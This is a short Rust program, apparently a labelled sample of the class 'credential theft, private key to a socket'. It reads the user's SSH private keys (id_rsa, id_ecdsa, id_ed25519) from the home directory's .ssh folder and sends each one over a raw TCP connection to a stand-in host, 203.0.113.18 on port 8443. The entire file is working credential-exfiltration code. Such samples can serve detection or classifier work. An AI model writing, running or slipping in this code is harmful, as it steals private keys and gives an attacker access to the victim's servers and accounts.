// class: credential theft, private key to a socket; style: rust
use std::fs;
use std::io::Write;
use std::net::TcpStream;

fn main() {
    let home = std::env::var("HOME").unwrap_or("/root".into());
    for name in ["id_rsa", "id_ecdsa", "id_ed25519"] {
        if let Ok(key) = fs::read(format!("{home}/.ssh/{name}")) {
            if let Ok(mut s) = TcpStream::connect("203.0.113.18:8443") {
                let _ = s.write_all(&key);
            }
        }
    }
}
